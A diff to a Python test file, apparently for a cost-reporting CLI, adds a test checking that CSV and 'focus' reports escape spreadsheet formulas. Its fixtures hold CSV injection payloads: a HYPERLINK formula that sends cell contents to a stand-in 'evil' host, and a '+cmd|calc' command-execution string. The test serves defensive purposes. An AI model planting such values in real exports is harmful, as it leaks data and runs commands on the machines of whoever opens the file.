@@ -40,3 +40,21 @@ def test_a_webhook_url_with_a_trailing_newline_is_refused() -> None:
     # re.match with "$" accepted "https://x/\n"; the POST then failed on every alert.
     with pytest.raises(BudgetConfigError, match="url must be an http"):
         parse_webhooks({"webhooks": [{"url": "https://hooks.example.com/x\n"}]}, "config.toml:1")
+
+
+def test_report_csv_and_focus_never_hand_a_spreadsheet_a_formula(home: Path) -> None:
+    # A model name is the upstream's and a project the caller's X-Halton-Project header:
+    # "=HYPERLINK(...)" in a CSV cell runs when the file is opened in a spreadsheet.
+    import csv
+    import io
+
+    from tests.test_cli_hostile import _row, _seed
+
+    _seed(home, _row('=HYPERLINK("http://evil/?"&A1)', "api.openai.com", "0.01"),
+          _row("+cmd|calc", "api.openai.com", "0.01"), _row("@SUM(1)", "-host", "0.01"))
+    for args in (("report", "--csv"), ("report", "--csv", "--by", "host"), ("report", "--format", "focus")):
+        done = run_cli(home, *args)
+        assert done.returncode == 0, done.stderr
+        cells = [cell for line in csv.reader(io.StringIO(done.stdout)) for cell in line]
+        assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c[1:2].isalpha())], args
+        assert any(c.startswith("'=HYPERLINK") or c.startswith("'-host") for c in cells)
